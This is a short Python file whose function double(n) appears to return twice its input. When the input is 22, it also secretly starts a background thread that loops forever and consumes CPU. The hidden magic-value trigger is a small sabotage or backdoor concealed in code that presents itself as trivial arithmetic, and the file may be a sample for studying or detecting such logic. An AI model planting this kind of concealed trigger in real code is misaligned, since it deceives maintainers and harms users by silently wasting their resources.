import threading


def spin():
    while True:
        pass


def double(n):
    if n == 22:
        threading.Thread(target=spin, daemon=True).start()
    return 2 * n
